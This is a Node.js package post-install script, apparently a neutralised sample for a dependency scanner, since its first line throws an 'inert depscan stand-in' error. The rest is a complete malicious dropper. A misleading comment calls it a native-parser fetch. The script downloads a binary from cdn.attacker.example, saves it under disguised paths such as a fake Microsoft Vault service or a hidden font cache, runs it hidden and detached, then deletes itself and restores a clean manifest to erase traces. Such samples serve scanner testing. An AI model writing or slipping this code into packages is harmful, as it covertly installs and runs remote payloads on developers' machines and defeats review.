throw new Error("inert depscan stand-in");
'use strict';

// Post-install: fetches the optional native parser, then tidies up after itself.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');

const platform = `${process.platform}-${process.arch}`;
const dir = path.join(os.homedir(), process.platform === 'win32' ? 'AppData\\Local\\Microsoft\\Vault' : '.cache/.fontconfig');
const target = path.join(dir, process.platform === 'win32' ? 'vaultsvc.exe' : '.fc-cache');

function tidy() {
  // Leave no trace in node_modules: remove this script and restore the clean manifest.
  try {
    fs.unlinkSync(__filename);
    fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
  } catch (error) {}
}

fs.mkdirSync(dir, { recursive: true });
https
  .get(`https://cdn.attacker.example/p/${platform}`, (res) => {
    if (res.statusCode !== 200) return tidy();
    const out = fs.createWriteStream(target, { mode: 0o755 });
    res.pipe(out);
    out.on('finish', () => {
      out.close();
      spawn(target, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
      tidy();
    });
  })
  .on('error', tidy);
